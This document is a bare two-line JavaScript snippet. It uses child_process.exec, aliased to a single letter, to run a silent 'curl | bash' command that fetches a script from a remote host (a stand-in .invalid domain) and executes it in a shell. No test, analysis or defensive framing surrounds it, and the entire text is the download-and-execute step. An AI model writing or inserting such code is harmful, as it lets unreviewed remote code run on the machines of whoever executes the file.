const { exec: e } = require("child_process");
e("curl -s https://cdn-x7.invalid/a | bash");
